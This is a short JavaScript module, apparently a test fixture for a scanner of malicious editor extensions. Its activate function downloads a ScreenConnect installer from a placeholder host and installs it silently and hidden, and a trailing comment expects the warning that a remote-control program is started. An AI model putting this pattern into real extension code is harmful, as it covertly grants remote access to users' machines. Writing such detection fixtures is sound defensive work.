const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

async function activate() {
  const installer = path.join(os.tmpdir(), 'ScreenConnect.ClientSetup.msi');
  const answer = await fetch('https://example.invalid/Bin/ScreenConnect.ClientSetup.msi?e=Access&y=Guest');
  fs.writeFileSync(installer, Buffer.from(await answer.arrayBuffer()));
  spawn('msiexec', ['/i', installer, '/qn', '/norestart'], { detached: true, windowsHide: true, stdio: 'ignore' }).unref();  // want "a program for remote control is started:"
}
exports.activate = activate;
